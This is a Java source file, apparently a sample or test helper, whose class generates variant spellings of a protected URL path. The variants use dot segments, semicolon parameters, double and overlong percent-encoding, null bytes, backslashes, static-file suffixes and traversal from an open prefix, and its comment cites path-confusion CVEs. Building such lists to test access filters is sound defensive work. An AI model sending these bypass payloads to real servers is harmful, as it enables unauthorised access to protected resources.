package io.github.sallyport.sample;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.Collectors;

/**
 * Spellings of a path that one reader takes for it and another does not, as they have opened what
 * was shut before: CVE-2010-3863, CVE-2016-9879, CVE-2020-1957, CVE-2021-28164, CVE-2023-4853,
 * CVE-2023-34478, CVE-2026-39852, CVE-2026-50559, CVE-2026-87743.
 */
final class PathTricks {
  private PathTricks() {}

  /** Whether a percent sign is not followed by a byte (RFC 3986, 2.1). */
  static boolean isMalformed(String target) {
    return target.matches(".*%(?!\\p{XDigit}{2}).*");
  }

  /**
   * All of them.
   *
   * @param shut what is meant; two segments at least
   * @param open a path whose prefix is open to everybody
   */
  static List<String> to(String shut, String open) {
    int cut = shut.lastIndexOf('/');
    String head = shut.substring(0, cut);
    String last = shut.substring(cut + 1);
    List<String> tricks = new ArrayList<>();
    for (String before :
        List.of(
            "/",
            "//",
            "/.",
            "/x/..",
            "/%2e",
            "/%2E",
            "/x/%2e%2e",
            "/;",
            "/;x=1",
            "/.;",
            "/x/..;",
            "/%5c..",
            "/..",
            "/../..",
            "/%00",
            "/%20",
            "/%2f",
            "/%252e")) {
      tricks.add(before + shut);
    }
    for (String within :
        List.of(
            "//",
            "///",
            "/./",
            "/x/../",
            "/%2e/",
            "/x/%2e%2e/",
            ";x/",
            ";jsessionid=1/",
            "/;/",
            "/;x=1/",
            "%3Bx/",
            "%2F",
            "%2f",
            "%5C",
            "%5c",
            "\\",
            "%252F",
            "%252f",
            "%c0%af",
            "%e0%80%af",
            "%ef%bc%8f",
            "%u002f",
            "/%09",
            "/%20",
            "%20/",
            "/%00/")) {
      tricks.add(head + within + last);
    }
    for (String after :
        List.of(
            "/",
            "//",
            "/.",
            "/./",
            "/..",
            "/x/..",
            ";",
            ";x",
            ";x=1",
            ";jsessionid=1",
            ";/",
            ";.css",
            "%3B",
            "%3Bx",
            "%20",
            "%00",
            "%0a",
            "%0d%0a",
            "%09",
            "%23",
            "%3f",
            "?",
            "/?",
            "?x",
            "#",
            "#x",
            ".",
            "..",
            ".json",
            ".css",
            ".ico",
            ".html",
            "/x.ico",
            "/x.css",
            "%2Fx.ico",
            "*",
            "/*",
            "~",
            "::$DATA",
            "%u0000",
            "%",
            "%2",
            "%zz",
            "?" + open,
            ";" + open,
            "#" + open)) {
      tricks.add(shut + after);
    }
    for (String out :
        List.of(
            "/..",
            "/%2e%2e",
            "/%2E%2E",
            "/.%2e",
            "/%2e.",
            "/..;",
            "/..;x=1",
            "/;/..",
            ";/..",
            "//..",
            "/x/../..",
            "/./..",
            "/%252e%252e",
            "/%c0%ae%c0%ae",
            "/%u002e%u002e",
            "/..%00",
            "/..%20",
            "/%2e%2e;")) {
      tricks.add(open + out + shut);
    }
    for (String out :
        List.of("/..%2f", "/..%5c", "/..\\", "/%2e%2e%2f", "/%2e%2e%5c", "%2f..%2f")) {
      tricks.add(open + out + shut.substring(1));
    }
    tricks.add(shut.toUpperCase(Locale.ROOT));
    tricks.add(head.toUpperCase(Locale.ROOT) + "/" + last);
    tricks.add(head + "/" + last.toUpperCase(Locale.ROOT));
    tricks.add("\\" + shut.substring(1));
    tricks.add("/%" + Integer.toHexString(shut.charAt(1)) + shut.substring(2));
    tricks.add(encoded(head) + "/" + encoded(last));
    tricks.add(encoded(head) + "/" + last);
    tricks.add(head + "/" + encoded(last));
    tricks.add(encoded(encoded(head)) + "/" + last);
    return tricks;
  }

  /** Every character but the slash as a percent sign and its code. */
  private static String encoded(String path) {
    return path.chars()
        .mapToObj(c -> c == '/' ? "/" : "%" + Integer.toHexString(c))
        .collect(Collectors.joining());
  }
}
